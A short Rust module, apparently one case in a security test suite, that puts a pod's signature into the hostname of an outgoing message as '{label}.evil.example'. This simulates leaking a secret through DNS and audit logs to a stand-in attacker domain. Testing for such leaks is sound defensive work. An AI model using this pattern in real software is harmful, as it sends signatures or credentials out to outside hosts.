//! The signature as a host, which the audit log and DNS would see.

use alloc::format;

use crate::message::exchange;
use crate::outcome::Outcome;
use crate::pod::Pod;

pub(crate) fn run(pod: &Pod) -> Outcome {
    let label = pod.signature()?[..60].replace('_', "-");
    exchange(pod, |message| {
        message.authority = format!("{label}.evil.example");
    })
}
